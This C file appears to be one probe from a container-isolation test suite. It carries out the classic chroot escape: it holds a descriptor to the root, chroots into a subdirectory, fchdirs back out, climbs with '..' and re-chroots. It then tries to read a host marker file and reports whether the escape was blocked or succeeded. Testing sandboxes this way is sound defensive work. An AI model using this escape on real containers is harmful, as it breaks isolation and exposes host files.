/* The classic chroot escape (CAP_SYS_CHROOT is in Docker's default set):
 * keep a descriptor to the current root, chroot into a subdirectory,
 * fchdir back out through the descriptor, climb with ../ and chroot(".").
 * Then look for the host's marker file. */
#include "attack.h"

int main(void) {
    protocol_init("chroot_escape");
    const char *marker = param("ATTACK_MARKER"), *secret = param("ATTACK_SECRET");
    struct stat root0;
    stat("/", &root0);
    mkdir("/tmp/jail", 0755);
    int held = open("/", O_RDONLY | O_DIRECTORY);
    long r = chroot("/tmp/jail");
    int e = r < 0 ? errno : 0;
    info("chroot /tmp/jail: %s", ename(e));
    if (r < 0) {
        verdict("BLOCKED", "chroot refused (%s)", ename(e));
        return 0;
    }
    fchdir(held);
    for (int i = 0; i < 64; i++) chdir("..");
    long r2 = chroot(".");
    info("chroot . after climbing: %s", r2 < 0 ? ename(errno) : "OK");
    if (try_secret_at(AT_FDCWD, marker, secret) == 0) {
        verdict("ESCAPED", "climbed out of the container's root and read the host file");
        return 0;
    }
    struct stat now;
    stat("/", &now);
    int same = now.st_dev == root0.st_dev && now.st_ino == root0.st_ino;
    info("root after escape is the container's root: %s", same ? "yes" : "no");
    if (same)
        verdict("HARMLESS", "left its own chroot but stopped at the container's root");
    else
        verdict("HARMLESS", "left its own chroot; the host file stays out of reach");
    return 0;
}
